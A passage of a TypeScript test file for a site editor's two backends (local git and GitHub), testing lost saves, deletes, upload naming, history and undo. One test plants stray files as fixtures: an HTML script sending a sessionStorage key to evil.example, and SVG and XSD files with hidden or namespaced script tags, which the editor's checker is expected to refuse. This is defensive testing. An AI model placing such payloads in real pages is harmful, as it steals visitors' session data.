/**
 * The rules both editors share, written once (model/), tried once against each: the editor's page (its store and its
 * publishing store) on `npm run edit`'s server parts, called in this process on a real git repository with a bare one
 * as the remote, and on the editor at /admin/'s GitHub backend, talking to the GitHub stand-in on a real bare
 * repository. Each test says what the author does; each editor plays the faults its own way (an answer lost on the
 * way, another tab's save), and must give the same outcome. What publishing decides (Publish, Get latest, History,
 * Undo, each fault) is tried once, on both stores, by publishing-contract.test.ts: here only what the page and the
 * backends add to it (the page's words, its handling of a lost answer or of a list that moved, Live now, History as
 * each backend lists it, who removed a file as each backend reads the author's site, refusals answered in words).
 * Delete, held uploads and files where saves go that the site cannot have are tried here, through the page, and not
 * again in site-stores.test.ts.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { writeSiteVersion } from '../build/site-version.ts';
import { readSchemas } from '../checker/read-config-files.ts';
import { PROJECT_SCHEMAS, siteFolders } from '../checker/project-folders.ts';
import { validateConfig } from '../checker/validate-config.ts';
import {
  AUTHOR,
  checkHere,
  DRAFTS,
  githubSitePerTest,
  pushedToDrafts,
  teammatePublishes,
} from '../testing/editor-github-site.ts';
import { git, sharedSitePerTest, teammateCommits, type SharedSite } from '../testing/git-sites.ts';
import { editorOnDisk } from '../testing/editor-on-disk.ts';
import { SPEC_SITE_DIR } from '../testing/sites.ts';
import { EditorStore } from './app/editor-store.ts';
import { current, isChanged } from './app/file-history.ts';
import { afterAllInWords } from './app/publishing-store.ts';
import { GitHubApi } from './github/github-api.ts';
import { GitHubBackend } from './github/github-backend.ts';
import type { UploadShelf } from './model/browser-uploads.ts';
import { MemoryShelf } from '../testing/editor-memory-shelf.ts';
import { LIST_MOVED } from './model/publish-list.ts';
import { editorSchemas } from './server/editor-schemas.ts';
import { ensureHeldMediaFolder } from './git/held-media.ts';
import { LockQueue } from './git/lock-queue.ts';
import { SitePublisher } from './git/publishing.ts';
import { liveSiteBuild } from './server/live-site.ts';
import { readConfigFile, saveConfigFiles } from './server/workspace.ts';
import type { EditorBackend } from './protocol/editor-backend.ts';
import { refusalWords } from './protocol/refusals.ts';
import { fileNameProblem } from '../content/file-names.ts';
import { pathsInWords, strayInWords } from './model/stray-files.ts';
import { notRefused, refusalOf } from '../testing/editor-answers.ts';

const HOME = 'config/pages/home.json';
const FAQS = 'config/collections/faqs.json';
/** How long the page may take to show what it reads in the background, on a machine busy with other work. */
const BUSY_MACHINE = { timeout: 10_000 };

/** One editor as the tests drive it: its backend, how its site reads, and how a fault or another tab plays on it. */
interface Editor {
  readonly backend: EditorBackend;
  /** The home page's heading where the author's saves go (their copy, or their drafts), and where the site is live. */
  readonly saved: () => string;
  readonly live: () => string;
  /** A file's text on the live branch. */
  readonly liveText: (path: string) => string;
  /** How many commits the live branch has, to see that a publish went once. */
  readonly liveCommits: () => number;
  /** The commit the live branch is at. */
  readonly liveCommit: () => string;
  /** The live branch's first commit: the site's first version. */
  readonly firstCommit: () => string;
  /** A teammate publishes a change of their own to main, with plain git. */
  readonly teammatePublishes: (question?: string) => void;
  /** A teammate publishes a change to any file, with plain git: `change` edits their clone before the commit. */
  readonly teammateCommits: (who: string, message: string, change: (clone: string) => void) => void;
  /**
   * The next save (or Delete) or publish is done but its answer is lost on the way back (at
   * /admin/, the request that writes).
   */
  readonly loseNextAnswer: (to: 'save' | 'publish') => void;
  /**
   * Where a request the page stopped waiting for can still be done (GitHub): the next save's commit is done `ms`
   * late and its answer lost; the next publish's first look at main answers `ms` late.
   */
  readonly late?: { readonly nextSaveLands: (ms: number) => void; readonly nextPublishSlow: (ms: number) => void };
  /** The next save is never answered: nothing is done, and nothing comes back. */
  readonly hangNextSave: () => void;
  /** Another tab of the same author saves a new question for the first FAQ. */
  readonly anotherTabSaves: (question: string) => Promise<void>;
  /** An upload held for the author before names were checked, under a name the checker refuses (before the page opens). */
  readonly heldFromBefore: (name: string, bytes: Uint8Array) => void;
  /** Whether the site where saves go holds a file (public/media/…). */
  readonly savedHas: (path: string) => boolean;
  /** Files the editor did not put there land where the author's saves go: a web page and a drawing with a script. */
  readonly strayFilesLand: (files: Record<string, string | Uint8Array>) => void;
}

/**
 * The live site, as a host serves it after a build: a folder on a server of its own on 127.0.0.1, where a build of a
 * commit writes /site-version.json (the build's own writer, src/build/site-version.ts).
 */
const liveFolder = mkdtempSync(join(tmpdir(), 'live-site-'));
let liveOrigin = '';
const liveServer = createServer((request, response) => {
  const file = join(liveFolder, new URL(request.url ?? '/', 'http://x').pathname);
  if (!file.startsWith(liveFolder) || !existsSync(file)) return response.writeHead(404).end();
  response.writeHead(200, { 'content-type': 'application/json' }).end(readFileSync(file));
});
beforeAll(async () => {
  await new Promise<void>((resolve) => liveServer.listen(0, '127.0.0.1', resolve));
  liveOrigin = `http://127.0.0.1:${(liveServer.address() as AddressInfo).port}`;
});
afterAll(() => {
  liveServer.close();
  rmSync(liveFolder, { recursive: true, force: true });
});
/** A host built `commit` and serves it: the live site says so. */
const hostServesBuildOf = (commit: string) => writeSiteVersion(liveFolder, commit);
const headingOf = (text: string) => (JSON.parse(text) as { sections: { heading: string }[] }).sections[0]!.heading;

/** Files a teammate puts in public/ that no author may save beside: each once fooled one editor or the other. */
const PLANTED: Readonly<Record<string, Uint8Array>> = {
  'public/media/sneaky.svg': new TextEncoder().encode(
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:é="http://www.w3.org/2000/svg">\n<é:script>alert(1)</é:script></svg>\n',
  ),
  'public/media/wide.svg': new Uint8Array([
    0xff,
    0xfe,
    ...[...'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'].flatMap((c) => [
      c.charCodeAt(0),
      0,
    ]),
  ]),
  'public/schema.xsd': new TextEncoder().encode('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
};

/** npm run edit's server parts, called in this process: the workspace for the files, the publisher for the rest. */
async function localEditor(site: SharedSite): Promise<Editor> {
  const publisher = new SitePublisher(site.author, new LockQueue(), async (dir) => ({
    problems: validateConfig(siteFolders(dir)).problems,
  }));
  await publisher.setIdentity('Ama Mensah', 'ama@loommedia.example');
  const onDisk = editorOnDisk(site.author, publisher);
  const lose = { save: false, publish: false };
  let hang = false;
  /** The answer is made, then lost on the way back, as a dropped connection loses it. */
  const losing =
    <A extends unknown[], T>(to: keyof typeof lose, asked: (...args: A) => Promise<T>) =>
    async (...args: A) => {
      const answer = await asked(...args);
      if (!lose[to]) return answer;
      lose[to] = false;
      throw Object.assign(new Error('The editor server could not be reached.'), { answerLost: true });
    };
  const backend: EditorBackend = {
    ...onDisk,
    saveChanges: (...args) => {
      if (!hang) return losing('save', onDisk.saveChanges)(...args);
      hang = false;
      return new Promise(() => undefined);
    },
    removeFile: losing('save', onDisk.removeFile),
    publish: losing('publish', onDisk.publish),
    // The site's address (config/site.json) is answered by the live server here, as a name resolves to a host.
    siteBuild: (commit) =>
      liveSiteBuild(
        site.author,
        commit,
        (ours, later) => publisher.holds(ours, later),
        (address, init) =>
          fetch(`${liveOrigin}${new URL(address instanceof Request ? address.url : String(address)).pathname}`, init),
      ),
  };
  return {
    backend,
    saved: () => headingOf(readFileSync(join(site.author, HOME), 'utf8')),
    live: () => headingOf(git(site.remote, 'show', `main:${HOME}`)),
    liveText: (path) => git(site.remote, 'show', `main:${path}`),
    liveCommits: () => Number(git(site.remote, 'rev-list', '--count', 'main')),
    liveCommit: () => git(site.remote, 'rev-parse', 'main'),
    firstCommit: () => git(site.remote, 'rev-list', '--max-parents=0', 'main'),
    teammatePublishes: (question = 'When?') =>
      void teammatePublishes(site, FAQS, (faqs) => (faqs.faqs[0].question = question)),
    teammateCommits: (who, message, change) => void teammateCommits(site, who, message, change),
    loseNextAnswer: (to) => (lose[to] = true),
    hangNextSave: () => (hang = true),
    heldFromBefore: (name, bytes) => writeFileSync(join(ensureHeldMediaFolder(site.author), name), bytes),
    savedHas: (path) => existsSync(join(site.author, path)),
    strayFilesLand: (files) => {
      // Put in the author's copy by something other than the editor.
      for (const [path, text] of Object.entries(files)) writeFileSync(join(site.author, path), text);
    },
    anotherTabSaves: async (question) => {
      const opened = readConfigFile(site.author, FAQS);
      const data = JSON.parse(opened.text) as { faqs: { question: string }[] };
      data.faqs[0]!.question = question;
      expect((await saveConfigFiles(site.author, [{ path: FAQS, data, baseVersion: opened.version }])).status).toBe(
        'saved',
      );
    },
  };
}

/** The editor at /admin/'s backend, on the GitHub stand-in: faults are the network's, played by the stand-in. */
async function gitHubEditor({ api, github, site }: ReturnType<ReturnType<typeof githubSitePerTest>>): Promise<Editor> {
  // The browser's storage of held uploads, as admin/held-uploads.ts keeps them: by account and path.
  const kept = new Map<string, { bytes: Uint8Array; type: string; at?: number }>();
  const heldUploads: UploadShelf = {
    keep: async (owner, path, upload) => void kept.set(`${owner}\u0000${path}`, upload),
    forget: async (owner, path) => void kept.delete(`${owner}\u0000${path}`),
    all: async (owner) =>
      [...kept].flatMap(([key, upload]) => {
        const [whose, path] = key.split('\u0000');
        return whose === owner ? [[path!, upload] as [string, typeof upload]] : [];
      }),
  };
  const backendFor = (through: GitHubApi) =>
    new GitHubBackend({
      heldUploads,
      api: through,
      check: checkHere,
      checkSchemas: async () => readSchemas(PROJECT_SCHEMAS),
      formSchemas: async () => (await editorSchemas()) as Record<string, object>,
      siteAddress: (path) => `https://loom.example${path}`,
      liveAddress: `${liveOrigin}/`,
    });
  return {
    backend: backendFor(api),
    saved: () => headingOf(git(site.remote, 'show', `${DRAFTS}:${HOME}`)),
    live: () => headingOf(git(site.remote, 'show', `main:${HOME}`)),
    liveText: (path) => git(site.remote, 'show', `main:${path}`),
    liveCommits: () => Number(git(site.remote, 'rev-list', '--count', 'main')),
    liveCommit: () => git(site.remote, 'rev-parse', 'main'),
    firstCommit: () => git(site.remote, 'rev-list', '--max-parents=0', 'main'),
    teammatePublishes: (question = 'When?') =>
      void teammatePublishes(site, FAQS, (faqs) => (faqs.faqs[0].question = question)),
    teammateCommits: (who, message, change) => void teammateCommits(site, who, message, change),
    loseNextAnswer: (to) =>
      github.faults.push({
        kind: 'lose-answer',
        body: { save: `"branchName":"${DRAFTS}"`, publish: '"branchName":"main"' }[to],
      }),
    late: {
      nextSaveLands: (ms) => github.faults.push({ kind: 'land-late', ms, body: `"branchName":"${DRAFTS}"` }),
      nextPublishSlow: (ms) => github.faults.push({ kind: 'slow', ms, method: 'GET', path: /\/compare\// }),
    },
    hangNextSave: () => github.faults.push({ kind: 'hang', body: `"branchName":"${DRAFTS}"` }),
    heldFromBefore: (name, bytes) =>
      void kept.set(`${AUTHOR.login}\u0000public/media/${name}`, { bytes, type: 'image/png' }),
    savedHas: (path) => {
      try {
        git(site.remote, 'cat-file', '-e', `${DRAFTS}:${path}`);
        return true;
      } catch {
        return false;
      }
    },
    strayFilesLand: (files) => pushedToDrafts(site, 'Kofi Boateng', files),
    anotherTabSaves: async (question) => {
      const other = backendFor(api);
      const opened = await notRefused(other.openFile(FAQS));
      const data = JSON.parse(opened.text) as { faqs: { question: string }[] };
      data.faqs[0]!.question = question;
      expect(await other.saveChanges([{ path: FAQS, data, baseVersion: opened.version }])).toMatchObject({
        status: 'saved',
      });
    },
  };
}

/** The pages the current test opened: their watch of the live site after a publish ends with the test. */
const pagesOpen: EditorStore[] = [];
afterEach(() => pagesOpen.splice(0).forEach((store) => store.publishing.stopWatching()));

/**
 * The editor's page on an editor: its store, started, with the home page open; its drafts on `shelf` (a page loaded
 * again finds them there), and its deadline for an answer shorter than the page's when given.
 */
async function pageOn(
  editor: Editor,
  {
    shelf = new MemoryShelf(),
    ...timing
  }: { shelf?: MemoryShelf; deadlineMs?: number; lateLookMs?: number; lateWatchMs?: number } = {},
) {
  const store = new EditorStore(
    editor.backend,
    { shelf, tab: async () => 'tab' },
    { checkDelayMs: 0, liveLookMs: 50, ...timing },
  );
  pagesOpen.push(store);
  await store.start();
  await store.select(HOME);
  const write = (heading: string) => {
    const data = structuredClone(current(store.getState().open[HOME]!)) as { sections: { heading: string }[] };
    data.sections[0]!.heading = heading;
    store.edit(HOME, data, performance.now() + Math.random() * 10_000);
  };
  return { store, write };
}

/**
 * Each editor, for each test of the describe that calls it: a site of its own (made once and copied for each test),
 * and no other editor's.
 */
const localEditors = () => {
  const local = sharedSitePerTest(SPEC_SITE_DIR);
  return () => localEditor(local());
};
const gitHubEditors = () => {
  const onGitHub = githubSitePerTest();
  return () => gitHubEditor(onGitHub());
};

describe.each([
  ['npm run edit', localEditors],
  ['the editor at /admin/', gitHubEditors],
])('%s', (_, editorsOf) => {
  const editorOf = editorsOf();
  it('a save whose answer was lost is found by its id before anything is said: saved after all, and the next save goes on from it', async () => {
    const editor = await editorOf();
    const { store, write } = await pageOn(editor);
    write('Sent, answer lost');
    editor.loseNextAnswer('save');
    await store.save();
    expect(store.getState().status).toMatch(
      new RegExp(`^Saved after all: ${HOME}\\. The answer was lost on the way, but the save went through\\.$`),
    );
    expect(editor.saved()).toBe('Sent, answer lost');
    expect(isChanged(store.getState().open[HOME]!)).toBe(false);
    write('Typed since');
    await store.save();
    expect(store.getState()).toMatchObject({ status: `Saved ${HOME}.`, conflicts: [] });
    expect(editor.saved()).toBe('Typed since');
  });

  it('a Delete whose answer was lost is found by its id: deleted after all, in words, with the places that pointed to it', async () => {
    const editor = await editorOf();
    const { store } = await pageOn(editor);
    const ABOUT = 'config/pages/about.json';
    const NAVIGATION = 'config/navigation.json';
    const listed = async () => (await notRefused(editor.backend.listFiles())).files.map((file) => file.path);
    // The plan names the page and the places that point to it, and removes nothing.
    const plan = await notRefused(editor.backend.planRemoval(ABOUT));
    expect(plan).toMatchObject({ path: ABOUT, name: 'About Us page', address: '/about' });
    expect(plan.places.map((place) => place.fileName)).toContain('Navigation');
    expect(await listed()).toContain(ABOUT);
    editor.loseNextAnswer('save');
    expect(await store.deleteFile(plan, { action: 'remove' })).toEqual({ status: 'done' });
    expect(store.getState().status).toMatch(/^Deleted after all: About Us page\. .*The answer was lost on the way/);
    expect(await listed()).not.toContain(ABOUT);
    expect((await notRefused(editor.backend.openFile(NAVIGATION))).text).not.toContain('"/about"');
  });

  it('a Delete of a file changed since its plan is refused in words, with the plan as it is now; nothing is deleted', async () => {
    const editor = await editorOf();
    const { store } = await pageOn(editor);
    const ABOUT = 'config/pages/about.json';
    const plan = await notRefused(editor.backend.planRemoval(ABOUT));
    // Another tab changes the page meanwhile.
    const about = await notRefused(editor.backend.openFile(ABOUT));
    const changed = { ...(JSON.parse(about.text) as object), title: 'About the team' };
    expect(
      await editor.backend.saveChanges([{ path: ABOUT, data: changed, baseVersion: about.version }]),
    ).toMatchObject({ status: 'saved' });
    expect(await store.deleteFile(plan, { action: 'remove' })).toEqual({
      status: 'not-deleted',
      error: refusalWords('changedSinceDelete', 'About Us page'),
      plan: expect.objectContaining({ path: ABOUT, version: expect.not.stringMatching(plan.version) }),
    });
    expect((await notRefused(editor.backend.listFiles())).files.map((file) => file.path)).toContain(ABOUT);
    expect(JSON.parse((await notRefused(editor.backend.openFile(ABOUT))).text).title).toBe('About the team');
  });

  it('a save that GitHub does after the page stopped waiting is said when it lands, once', async (context) => {
    const editor = await editorOf();
    // npm run edit answers the page's question about a lost save only once nothing of it still runs: it cannot land
    // later, and says "not saved" only when it was not.
    if (!editor.late) return context.skip();
    const { store, write } = await pageOn(editor, { deadlineMs: 2000, lateLookMs: 100 });
    write('Landed late');
    editor.late.nextSaveLands(1500);
    await store.save();
    expect(store.getState().status).toMatch(
      /^Not saved: .*kept.* Save again to try once more\. Should the save go through after all, the editor will say so\.$/,
    );
    expect(isChanged(store.getState().open[HOME]!)).toBe(true);
    await vi.waitFor(() => expect(store.getState().status).toMatch(/^Saved after all: /), BUSY_MACHINE);
    expect(store.getState().status).toMatch(/went through after the editor said it had not/);
    expect(isChanged(store.getState().open[HOME]!)).toBe(false);
    expect(editor.saved()).toBe('Landed late');
  });

  it('a publish the page stopped waiting for starts nothing more: nothing lands after the page said what became of it', async (context) => {
    const editor = await editorOf();
    // npm run edit finishes what it began and answers the page's question once it has (the test above and the lost
    // publish one): the page's word is then that it was published.
    if (!editor.late) return context.skip();
    const { store, write } = await pageOn(editor, { deadlineMs: 2000, lateLookMs: 100, lateWatchMs: 3000 });
    write('Never sent');
    await store.save();
    await store.publishing.openPublish();
    const before = editor.liveCommits();
    editor.late.nextPublishSlow(2500);
    await store.publishing.publish();
    expect(store.publishing.getState().outcome).toMatchObject({
      unanswered: true,
      error: expect.stringMatching(/As far as the editor can tell, nothing was published/),
    });
    // GitHub's slow answer comes after the page stopped waiting: the publish does not go on from it.
    await new Promise((resolve) => setTimeout(resolve, 3500));
    expect(editor.liveCommits()).toBe(before);
    expect(store.publishing.getState().outcome).toMatchObject({ unanswered: true });
  });

  it('a save that never answers is given up on in words, keeping the text; after a reload, saving again goes through', async () => {
    const editor = await editorOf();
    const shelf = new MemoryShelf();
    const { store, write } = await pageOn(editor, { shelf, deadlineMs: 2000 });
    write('Typed before the silence');
    editor.hangNextSave();
    await store.save();
    expect(store.getState().status).toMatch(
      /^Not saved: No answer came within 2 seconds, so the editor stopped waiting\. .*kept.* Save again to try once more\.( Should the save go through after all, the editor will say so\.)?$/,
    );
    // The author loads the page again: what they typed is there, and Save goes through.
    const reloaded = await pageOn(editor, { shelf });
    const home = current(reloaded.store.getState().open[HOME]!) as { sections: { heading: string }[] };
    expect(home.sections[0]!.heading).toBe('Typed before the silence');
    await reloaded.store.save();
    expect(reloaded.store.getState()).toMatchObject({ status: `Saved ${HOME}.`, conflicts: [] });
    expect(editor.saved()).toBe('Typed before the silence');
  });

  it('lists History, undoes a published change, and shows the site as it then is; answers one it cannot undo with a refusal in words, not as a lost connection', async () => {
    const editor = await editorOf();
    const { backend } = editor;
    const question = () => (JSON.parse(editor.liveText(FAQS)) as { faqs: { question: string }[] }).faqs[0]!.question;
    const before = question();
    editor.teammatePublishes('Asked by a teammate?');
    const live = editor.liveCommit();
    // Which refusal is decided once, in the contract suite; here each backend answers it in words.
    expect(await backend.undoPublished(editor.firstCommit())).toEqual({ error: refusalWords('firstVersion') });
    expect(await backend.undoPublished('f'.repeat(40))).toEqual({ error: refusalWords('notPublished') });
    expect(editor.liveCommit()).toBe(live);
    const { entries } = await notRefused(backend.loadHistory());
    expect(entries[0]).toMatchObject({ commit: live, author: 'Kofi Boateng', message: `${FAQS} changed` });
    expect(await backend.undoPublished(entries[0]!.commit)).toMatchObject({ status: 'published' });
    expect(question()).toBe(before);
    // The editor shows the site as it now is.
    expect(JSON.parse((await notRefused(backend.openFile(FAQS))).text).faqs[0].question).toBe(before);
  });

  it('names who removed a config file the author’s site no longer has, once Get latest brought the removal in; nobody for a file it has', async () => {
    const { backend, liveText, teammateCommits } = await editorOf();
    const PRESS = 'config/pages/press.json';
    const press = { ...(JSON.parse(liveText('config/pages/about.json')) as object), route: '/press' };
    teammateCommits('Esi Ofori', 'A press page', (clone) =>
      writeFileSync(join(clone, PRESS), `${JSON.stringify(press, null, 2)}\n`),
    );
    expect(await backend.getLatest()).toMatchObject({ status: 'updated' });
    teammateCommits('Kofi Boateng', 'No press page', (clone) => rmSync(join(clone, PRESS)));
    // The author's site still has it (their copy, or their drafts) until Get latest brings the removal in.
    expect(await backend.whoRemoved(PRESS)).toBeUndefined();
    expect(await backend.getLatest()).toMatchObject({ status: 'updated' });
    // Who removed it, not who made it.
    expect(await backend.whoRemoved(PRESS)).toBe('Kofi Boateng');
    expect(await backend.whoRemoved(HOME)).toBeUndefined();
    expect(await backend.whoRemoved('config/pages/never.json')).toBeUndefined();
  });

  it('lists the pictures and videos a field can name, each with its size and whether a saved file names it', async () => {
    const { backend } = await editorOf();
    const size = (src: string) => statSync(join(SPEC_SITE_DIR, 'public', src)).size;
    expect((await notRefused(backend.listMedia('webm'))).files).toEqual([
      { src: '/media/hero.webm', kind: 'video', bytes: size('/media/hero.webm'), used: true },
    ]);
    expect((await notRefused(backend.listMedia())).files.map((file) => [file.src, file.kind, file.used])).toEqual([
      ['/media/hero-poster.jpg', 'image', true],
      ['/media/hero.mp4', 'video', true],
      ['/media/hero.webm', 'video', true],
    ]);
  });

  it('refuses an upload named CON.png in the name rule’s words, never holding it; holds others, listed, with Rename that drafts follow', async () => {
    const editor = await editorOf();
    const { store } = await pageOn(editor);
    const poster = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
    expect(
      await refusalOf(editor.backend.uploadMedia(new File([poster], 'CON.jpg', { type: 'image/jpeg' }), 'image')),
    ).toContain('CON.jpg is named "con.jpg", a name Windows keeps for a device. Rename it. Then upload it again.');
    expect(await refusalOf(editor.backend.uploadMedia(new File(['not a picture'], 'notes.jpg'), 'image'))).toMatch(
      /^notes\.jpg is not a picture/,
    );
    await store.uploads.refresh();
    expect(store.uploads.getState().uploads).toEqual([]);

    const held = await notRefused(
      editor.backend.uploadMedia(new File([poster], 'Poster.jpg', { type: 'image/jpeg' }), 'image'),
    );
    expect(held.src).toBe('/media/poster.jpg');
    const home = structuredClone(current(store.getState().open[HOME]!)) as any;
    home.sections[0].video.poster = held.src;
    store.edit(HOME, home);
    await store.uploads.refresh();
    expect(store.uploads.getState().uploads).toEqual([
      { src: '/media/poster.jpg', kind: 'image', bytes: poster.length, uploadedAt: expect.any(String) },
    ]);
    expect(store.uploads.namedBy(held.src)).toEqual([{ file: HOME, at: ['sections', 0, 'video', 'poster'] }]);

    // A name the rule refuses, or another file's, is refused in words; a good one is taken, and the draft follows.
    expect(await store.uploads.rename(held.src, 'aux')).toBe(false);
    expect(store.uploads.getState().said).toBe(
      refusalWords('heldNameRefused', `aux.jpg ${fileNameProblem('aux.jpg')}`, 'poster.jpg'),
    );
    expect(await store.uploads.rename(held.src, 'hero-poster')).toBe(false);
    expect(store.uploads.getState().said).toBe(refusalWords('heldNameTaken', 'hero-poster.jpg'));
    expect(await store.uploads.rename(held.src, 'launch-poster')).toBe(true);
    expect(store.getState().status).toBe(
      `Renamed /media/poster.jpg to /media/launch-poster.jpg. Your unsaved changes to ${HOME} name it by its new name.`,
    );
    expect((current(store.getState().open[HOME]!) as any).sections[0].video.poster).toBe('/media/launch-poster.jpg');
    await store.save();
    expect(store.getState().status).toMatch(new RegExp(`^Saved ${HOME}\\.`));
    expect([editor.savedHas('public/media/launch-poster.jpg'), editor.savedHas('public/media/poster.jpg')]).toEqual([
      true,
      false,
    ]);
    await vi.waitFor(() => expect(store.uploads.getState().uploads).toEqual([]), BUSY_MACHINE);
  });

  it('names an upload as the other editor does: its own name in small letters, else -2, -3 before its ending', async () => {
    const editor = await editorOf();
    const poster = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
    const upload = async (name: string) =>
      (await notRefused(editor.backend.uploadMedia(new File([poster], name, { type: 'image/jpeg' }), 'image'))).src;
    // The site has hero-poster.jpg: the first upload of that name takes -2, the next -3, past the one held.
    expect(await upload('hero-poster.jpg')).toBe('/media/hero-poster-2.jpg');
    expect(await upload('Hero-Poster.jpg')).toBe('/media/hero-poster-3.jpg');
    // A dot before the ending is a dash in the name it is held under, so the number goes before the ending.
    expect(await upload('launch.day.jpg')).toBe('/media/launch-day.jpg');
    expect(await upload('launch.day.jpg')).toBe('/media/launch-day-2.jpg');
  });

  it('removes a held upload when asked: a draft that names it shows the missing file’s problem at its field', async () => {
    const editor = await editorOf();
    const { store } = await pageOn(editor);
    const poster = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
    const held = await notRefused(
      editor.backend.uploadMedia(new File([poster], 'cover.jpg', { type: 'image/jpeg' }), 'image'),
    );
    const home = structuredClone(current(store.getState().open[HOME]!)) as any;
    home.sections[0].video.poster = held.src;
    store.edit(HOME, home);
    await store.checked();
    expect(store.getState().problems.filter((problem) => problem.severity === 'error')).toEqual([]);
    await store.uploads.remove(held.src);
    expect(store.uploads.getState().said).toBe(
      `Removed /media/cover.jpg: it never joins the site. ${HOME} still names it: choose or upload another file in that field before you save.`,
    );
    expect(store.uploads.getState().uploads).toEqual([]);
    await store.checked();
    expect(store.getState().problems).toContainEqual(
      expect.objectContaining({ file: HOME, at: ['sections', 0, 'video', 'poster'], severity: 'error' }),
    );
    expect(await editor.backend.removeHeldUpload(held.src)).toEqual({
      error: refusalWords('heldUploadGone', held.src),
    });
  });

  it('an upload held under a name the checker refuses, from before names were checked, never stops a save; listed to rename', async () => {
    const editor = await editorOf();
    const png = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
    editor.heldFromBefore('con.jpg', png);
    const { store, write } = await pageOn(editor);
    write('Saved beside it');
    await store.save();
    expect(store.getState().status).toBe(`Saved ${HOME}.`);
    expect(editor.saved()).toBe('Saved beside it');
    await vi.waitFor(
      () =>
        expect(store.uploads.getState().uploads).toEqual([
          expect.objectContaining({ src: '/media/con.jpg', nameProblem: fileNameProblem('con.jpg') }),
        ]),
      BUSY_MACHINE,
    );
    // A save that names it is refused, saying to rename it; renamed, the field follows and the save goes through.
    const home = structuredClone(current(store.getState().open[HOME]!)) as any;
    home.sections[0].video.poster = '/media/con.jpg';
    store.edit(HOME, home);
    await store.save();
    expect(store.getState().status).toBe(
      'Not saved: 1 problem needs fixing first. /media/con.jpg is an upload whose name the site cannot have: rename it in the list of uploads waiting for a save, then save again. Your changes are kept.',
    );
    expect(store.getState().problems).toContainEqual(
      expect.objectContaining({ file: 'public/media/con.jpg', severity: 'error' }),
    );
    expect(editor.saved()).toBe('Saved beside it');
    expect(await store.uploads.rename('/media/con.jpg', 'cover')).toBe(true);
    expect(store.uploads.getState().uploads).toEqual([expect.not.objectContaining({ nameProblem: expect.anything() })]);
    await store.save();
    expect(store.getState().status).toBe(`Saved ${HOME}.`);
    expect(editor.savedHas('public/media/cover.jpg')).toBe(true);
  });

  it('a file the editor did not put where saves go, which the site cannot have, stops saves in the checker’s words, nothing written, and says the way out', async () => {
    const editor = await editorOf();
    editor.strayFilesLand({
      'public/evil.html': '<script>fetch("https://evil.example/?t=" + sessionStorage.key(0))</script>\n',
      'public/media/x.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
      ...PLANTED,
    });
    const { store, write } = await pageOn(editor);
    const strays = [
      'public/evil.html',
      'public/media/sneaky.svg',
      'public/media/wide.svg',
      'public/media/x.svg',
      'public/schema.xsd',
    ];
    await vi.waitFor(
      () =>
        expect(
          store.strays
            .getState()
            .strays?.files.map((file) => file.path)
            .sort(),
        ).toEqual(strays),
      BUSY_MACHINE,
    );
    write('Blocked for now');
    await store.save();
    const takesOff = editor.backend.canTakeOffStrays;
    expect(editor.saved()).not.toBe('Blocked for now');
    // Each in the checker's words, the same on both editors.
    expect(
      store
        .getState()
        .problems.filter((problem) => Object.keys(PLANTED).includes(problem.file))
        .map((problem) => `${problem.file}:${problem.position.line}: ${problem.message}`),
    ).toEqual([
      expect.stringMatching(
        /^public\/media\/sneaky\.svg:2: This file is an SVG drawing that holds <é:script>, which would run/,
      ),
      expect.stringMatching(
        /^public\/media\/wide\.svg:1: This file is not readable text in UTF-8 \(it is saved as UTF-16 LE\)/,
      ),
      expect.stringMatching(/^public\/schema\.xsd:1: This file is not a kind of file public\/ serves/),
    ]);
    expect(store.getState().status).toBe(
      `Not saved: 5 problems need fixing first. ${pathsInWords(strays)} ${
        takesOff
          ? 'are on your drafts, put there outside the editor, and the site cannot have them: take them off your drafts (listed above the form), then save again.'
          : "are in this computer's copy of the site, outside what the editor changes, and the site cannot have them: ask a developer to remove them, then save again."
      } Your changes are kept.`,
    );
    const { files } = store.strays.getState().strays!;
    if (!takesOff) {
      // npm run edit: the author's own copy of the site, which a developer deals with.
      expect(
        strayInWords(
          files.find((file) => file.path === 'public/evil.html')!,
          false,
        ),
      ).toMatch(
        /^public\/evil\.html was changed in this computer's copy of the site outside the editor\. .* A developer must deal with it: the editor changes only config\/ and public\/media\/, and never a file it did not put there\.$/,
      );
      expect(await editor.backend.takeOffDrafts({ paths: strays, listedAt: 'x' })).toEqual({
        error: refusalWords('straysNeedDeveloper', pathsInWords(strays)),
      });
      return;
    }
    // At /admin/: who put them there, and what taking them off does; then one commit takes them off, and saves go.
    expect(files.every((file) => file.by?.name === 'Kofi Boateng' && file.change === 'added')).toBe(true);
    expect(strayInWords(files[0]!, true)).toMatch(
      /^public\/evil\.html was put on your drafts by Kofi Boateng on \d{1,2} [A-Z][a-z]+\. .* It never reaches the site from the editor; taking it off your drafts removes it from your drafts, and nothing of yours changes\.$/,
    );
    await store.strays.takeOff();
    expect(store.getState().status.startsWith(`Took ${pathsInWords(strays)} off your drafts`)).toBe(true);
    expect(strays.map(editor.savedHas)).toEqual(strays.map(() => false));
    await store.save();
    expect(store.getState().status).toBe(`Saved ${HOME}.`);
    expect(editor.saved()).toBe('Blocked for now');
    await vi.waitFor(() => expect(store.strays.getState().strays).toBeUndefined(), BUSY_MACHINE);
  });

  it('puts a saved change back as it is live, but never one the saved site still needs, and says why', async () => {
    const { backend } = await editorOf();
    const PRESS = 'config/pages/press.json';
    const NAVIGATION = 'config/navigation.json';
    const about = JSON.parse((await notRefused(backend.openFile('config/pages/about.json'))).text) as Record<
      string,
      unknown
    >;
    const navigation = await notRefused(backend.openFile(NAVIGATION));
    const links = JSON.parse(navigation.text) as { links: { label: string; href: string }[] };
    links.links.push({ label: 'Press', href: '/press' });
    const saved = await backend.saveChanges([
      { path: PRESS, data: { ...about, route: '/press' }, baseVersion: null },
      { path: NAVIGATION, data: links, baseVersion: navigation.version },
